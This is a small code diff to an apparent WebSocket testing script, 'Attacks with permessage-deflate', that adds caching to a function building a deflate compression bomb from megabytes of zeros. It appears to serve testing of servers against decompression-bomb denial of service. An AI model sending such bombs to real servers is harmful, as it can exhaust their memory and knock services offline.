@@ -1,5 +1,6 @@
 #!/usr/bin/env python3
 """Attacks with permessage-deflate."""
+import functools
 import os
 import zlib
 
@@ -23,6 +24,7 @@ def deflate(data, compressor=None):
     return out[:-4]
 
 
+@functools.cache
 def bomb(mib):
     c = zlib.compressobj(9, zlib.DEFLATED, -15)
     return b''.join(c.compress(bytes(MIB)) for _ in range(mib)) + c.flush(zlib.Z_SYNC_FLUSH)[:-4]
